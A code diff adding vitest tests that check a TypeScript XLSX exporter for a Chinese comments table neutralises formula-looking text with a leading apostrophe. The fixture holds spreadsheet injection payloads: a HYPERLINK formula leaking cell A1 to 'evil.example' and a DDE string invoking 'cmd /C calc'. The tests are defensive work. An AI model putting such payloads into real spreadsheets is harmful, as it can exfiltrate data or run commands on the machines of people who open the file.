@@ -3,6 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { opinionTableXlsx, SHEET_NAME } from './export-xlsx.js';
 import { EXPECTED_GROUPS, META, ROWS } from './opinion-table.fixtures.js';
 import { OPINION_COLUMNS } from './opinion-table.js';
+import { inertText } from './xlsx.js';
+import { readZipText } from './zip.test-support.js';
 
 async function readBack(file: Uint8Array): Promise<ExcelJS.Worksheet> {
   const workbook = new ExcelJS.Workbook();
@@ -83,5 +85,38 @@ describe('opinionTableXlsx', () => {
     const pasted = { ...ROWS[0], chapter: '第一章', opinion: '建议\u0007补充\ud800指标。' } as (typeof ROWS)[number];
     const sheet = await readBack(await opinionTableXlsx(META, [pasted]));
     expect(sheet.getCell('D5').value).toBe('建议补充指标。');
+  });
+});
+
+describe('formula-looking text in the workbook', () => {
+  it('makes text that starts like a formula inert: a text cell with an apostrophe, never a formula', async () => {
+    const hostile = {
+      ...ROWS[0],
+      chapter: '第一章',
+      opinion: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看依据")',
+      author: "@SUM(1+1)*cmd|' /C calc'!A0",
+      quote: '+86 571 8888 8888',
+      reason: '-2+3',
+    } as (typeof ROWS)[number];
+    const file = await opinionTableXlsx({ ...META, planTitle: '=1+1' }, [hostile]);
+    const sheet = await readBack(file);
+    const cells = [sheet.getCell('D5'), sheet.getCell('E5'), sheet.getCell('C5'), sheet.getCell('H5')];
+    expect(cells.map((cell) => cell.type)).toEqual(Array(4).fill(ExcelJS.ValueType.String));
+    expect(cells.map((cell) => cell.value)).toEqual([
+      '\'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看依据")',
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'+86 571 8888 8888",
+      "'-2+3",
+    ]);
+    expect(sheet.getCell('A1').value).toBe('《=1+1》意见采纳情况表');
+    // Nothing in the sheet's XML is a formula.
+    expect(readZipText(file, 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
+  });
+
+  it('leaves ordinary text, and numbers, as they were', () => {
+    expect(inertText('建议补充指标。')).toBe('建议补充指标。');
+    expect(inertText('“十四五”')).toBe('“十四五”');
+    expect(inertText('=')).toBe("'=");
+    expect(inertText('\t=1')).toBe("'\t=1");
   });
 });
